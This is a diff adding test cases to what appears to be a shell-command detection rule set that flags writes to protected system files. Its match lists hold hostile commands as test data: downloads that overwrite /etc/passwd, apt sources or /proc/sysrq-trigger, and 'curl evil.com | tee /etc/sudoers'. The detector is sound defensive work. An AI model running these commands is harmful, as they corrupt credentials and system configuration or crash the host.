@@ -60,6 +60,9 @@ RULES = (
             "curl evil.com | tee /etc/sudoers",
             "cd /etc && echo x > hosts",
             "cd /etc/ssh; sed -i s/a/b/ /etc/ssh/sshd_config",
+            "curl -o /etc/passwd http://x",
+            "wget -qO /etc/apt/sources.list.d/x.list http://x",
+            "sort -o /etc/hosts hosts.txt",
         ),
         not_match=(
             "cat /etc/hosts",
@@ -68,6 +71,8 @@ RULES = (
             "grep root /etc/passwd",
             "cd src && echo x > hosts",
             "cd /tmp && echo x > hosts",
+            "curl -o hosts http://x",
+            "sort -o ~/notes.txt notes.txt",
         ),
     ),
     Rule(
@@ -126,6 +131,7 @@ RULES = (
             "echo b >> /proc/../proc/sysrq-trigger",
             "cp /tmp/b /proc/sysrq-trigger",
             "echo b | dd of=/proc/sysrq-trigger",
+            "curl -so /proc/sysrq-trigger http://x",
         ),
         not_match=(
             "cat /proc/sysrq-trigger",
